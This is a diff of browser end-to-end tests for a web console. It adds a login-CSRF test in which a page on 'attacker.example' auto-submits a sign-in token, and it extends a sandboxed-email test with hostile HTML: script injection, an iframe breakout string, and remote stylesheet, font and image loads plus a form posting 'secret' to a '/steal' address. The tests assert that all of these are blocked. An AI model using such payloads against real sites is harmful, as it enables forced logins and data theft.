@@ -85,7 +85,8 @@ async function signIn(key?: string): Promise<Watched> {
   const w = await openPage();
   const { url } = await mintLink(svc, key);
   await w.page.goto(url);
-  expect(w.page.url()).toBe(`${svc.baseUrl}/console/`);
+  // The link asks first (login CSRF): its owner confirms with the button.
+  await Promise.all([w.page.waitForURL(`${svc.baseUrl}/console/`), w.page.getByRole('button', { name: /^Sign in to / }).click()]);
   return w;
 }
 
@@ -126,6 +127,34 @@ describe('the console in Chromium', () => {
     await page.keyboard.press('Tab');
     expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Skip to content');
     expect(w.consoleErrors).toEqual([]);
+    expect(w.offOrigin).toEqual([]);
+    await page.context().close();
+  });
+
+  it('login CSRF: a link opened in a browser that did not start the flow signs nothing in, and another site cannot post it', async () => {
+    const key = (await svc.call('POST', '/v1/keys', { body: { name: 'attacker key', mode: 'test' } })).body as { key: string };
+    const { url } = await mintLink(svc, key.key);
+    // The victim opens the link: a page that names whose console it is, and no session.
+    const w = await openPage();
+    const { page } = w;
+    await page.goto(url);
+    expect(await page.locator('h1').textContent()).toBe('Sign in to the console?');
+    expect(await page.locator('main').textContent()).toContain('attacker key');
+    expect(await seriousAxeIssues(page)).toEqual([]);
+    expect((await page.context().cookies()).filter((c) => c.name.startsWith('svc_console_'))).toEqual([]);
+    expect((await page.goto(`${svc.baseUrl}/console/`))?.status()).toBe(401);
+    // A page of another site posts the token on load (what a login-CSRF page would do): refused.
+    const attacker = 'http://attacker.example';
+    const token = new URL(url).searchParams.get('token')!;
+    await page.route(`${attacker}/**`, (route) => route.fulfill({
+      contentType: 'text/html',
+      body: `<form id="f" method="post" action="${svc.baseUrl}/console/login"><input name="token" value="${token}"></form><script>document.getElementById('f').submit()</script>`,
+    }));
+    const posted = page.waitForResponse((r) => r.url() === `${svc.baseUrl}/console/login` && r.request().method() === 'POST');
+    await page.goto(`${attacker}/`);
+    expect((await posted).status()).toBe(403);
+    expect((await page.context().cookies()).filter((c) => c.name.startsWith('svc_console_'))).toEqual([]);
+    expect((await page.goto(`${svc.baseUrl}/console/`))?.status()).toBe(401);
     expect(w.offOrigin).toEqual([]);
     await page.context().close();
   });
@@ -177,7 +206,14 @@ describe('the console in Chromium', () => {
 
   it("renders an email's HTML in its sandboxed frame: no script runs, nothing is loaded from elsewhere", async () => {
     const domain = await verifiedDomain(svc, 'console-mail.example');
-    const hostile = `<h1 id="hello">Hello from the inbox</h1><script>parent.document.title = 'pwned'; document.body.dataset.ran = 'yes';</script><img src="http://198.51.100.7/pixel.png" alt="pixel"><a href="javascript:alert(1)">x</a>"></iframe><script>document.title='escaped'</script>`;
+    const hostile = [
+      `<style>h1 { color: rgb(1, 2, 3) } @import url("http://198.51.100.7/import.css"); @font-face { font-family: far; src: url("http://198.51.100.7/font.woff") } p.bg { background: url("http://198.51.100.7/bg.png"); font-family: far }</style>`,
+      `<link rel="stylesheet" href="http://198.51.100.7/sheet.css">`,
+      `<h1 id="hello">Hello from the inbox</h1><p id="inline" class="bg" style="color: rgb(4, 5, 6)">Styled inline</p>`,
+      `<script>parent.document.title = 'pwned'; document.body.dataset.ran = 'yes';</script><img src="http://198.51.100.7/pixel.png" alt="pixel"><a href="javascript:alert(1)">x</a>`,
+      `<form id="steal" action="http://198.51.100.7/steal" method="post"><input name="q" value="secret"><button id="send">Send</button></form>`,
+      `"></iframe><script>document.title='escaped'</script>`,
+    ].join('');
     const sent = await svc.call('POST', '/v1/emails', { body: { from: `shop@${domain.domain}`, to: ['ada@example.com'], subject: 'Your <b>order</b>', html: hostile } });
     expect(sent.status, sent.text).toBe(201);
     for (let i = 0; i < 20 && (await svc.call('GET', '/v1/sandbox/mailbox')).body.data.length === 0; i++) await svc.advanceJobs(1);
@@ -188,11 +224,19 @@ describe('the console in Chromium', () => {
     const frame = page.frameLocator('iframe.email-frame');
     expect(await frame.locator('#hello').textContent()).toBe('Hello from the inbox');
     expect(await frame.locator('body').getAttribute('data-ran')).toBeNull();
+    // The email's own styles apply (its <style> and its style attributes), inside the frame only.
+    expect(await frame.locator('#hello').evaluate((el) => getComputedStyle(el).color)).toBe('rgb(1, 2, 3)');
+    expect(await frame.locator('#inline').evaluate((el) => getComputedStyle(el).color)).toBe('rgb(4, 5, 6)');
+    expect(await page.locator('h1').evaluate((el) => getComputedStyle(el).color)).not.toBe('rgb(1, 2, 3)');
+    // Its form goes nowhere (sandboxed: no allow-forms; form-action 'none').
+    await frame.locator('#send').click();
+    expect(await frame.locator('#hello').textContent()).toBe('Hello from the inbox');
     expect(await page.title()).toBe('Mail sandbox · svc console');
     expect(await page.locator('iframe.email-frame').getAttribute('sandbox')).toBe('');
     expect(await seriousAxeIssues(page)).toEqual([]);
     // The frame's script and image were refused (logged as such); nothing else went wrong.
     expect(w.consoleErrors.filter((e) => !/sandboxed|Content Security Policy|198\.51\.100\.7/.test(e))).toEqual([]);
+    // Nothing reached the network: no image, stylesheet, @import, font, CSS url() or form post.
     expect(w.offOrigin).toEqual([]);
     await page.screenshot({ path: join(ARTIFACTS, 'console-mail.png'), fullPage: true });
     await page.context().close();
@@ -252,6 +296,41 @@ describe('the console in Chromium', () => {
     expect(a.consoleErrors).toEqual([]);
     await a.page.context().close();
     await b.page.context().close();
+  });
+});
+
+describe('the phone in Chromium', () => {
+  it('dials a number with an IVR route, a key typed on the keyboard reaches the menu, the trace shows its action, then hangs up', async () => {
+    const { voiceNumber } = await import('./calls-fixtures.js');
+    const n = await voiceNumber(svc, {
+      destinations: [{ destinationType: 'pstn', destination: '+14155550199' }],
+      ivr: { enabled: true, greeting: { text: 'Press 2 for support' }, keys: [{ digit: '2', label: 'Support', action: { type: 'voicemail' } }], fallback: { type: 'voicemail' } },
+      voicemailEnabled: true,
+    });
+    const w = await signIn();
+    const { page } = w;
+    await page.goto(`${svc.baseUrl}/console/calls`);
+    await page.getByLabel('To', { exact: true }).selectOption(n.phoneNumber);
+    await Promise.all([page.waitForURL(/\/console\/calls\/call_/), page.getByRole('button', { name: 'Call', exact: true }).press('Enter')]);
+    await waitListening(page);
+    // The service clock is manual: the call moves when it does (steps due now run at an advance of 0).
+    await svc.advanceJobs(0);
+    await page.waitForFunction(() => document.getElementById('live')!.textContent!.includes('ivr.prompt'), undefined, { timeout: 10_000 });
+    expect(await seriousAxeIssues(page)).toEqual([]);
+    // The key typed on the keyboard (focus on the page, not in a field) presses the dial pad's 2.
+    await Promise.all([page.waitForURL(/pressed=2/), page.keyboard.press('2')]);
+    await waitListening(page);
+    await svc.advanceJobs(0);
+    await page.waitForFunction(() => document.getElementById('live')!.textContent!.includes('2 (Support) → voicemail'), undefined, { timeout: 10_000 });
+    expect(await page.evaluate(() => document.activeElement?.getAttribute('value'))).toBe('2');
+    await Promise.all([page.waitForURL(/hungUp=1/), page.getByRole('button', { name: 'Hang up', exact: true }).press('Enter')]);
+    await waitListening(page);
+    await svc.advanceJobs(0);
+    await page.waitForFunction(() => document.getElementById('live')!.textContent!.includes('the caller hung up'), undefined, { timeout: 10_000 });
+    await page.screenshot({ path: join(ARTIFACTS, 'console-phone.png'), fullPage: true });
+    expect(w.consoleErrors).toEqual([]);
+    expect(w.offOrigin).toEqual([]);
+    await page.context().close();
   });
 });
 
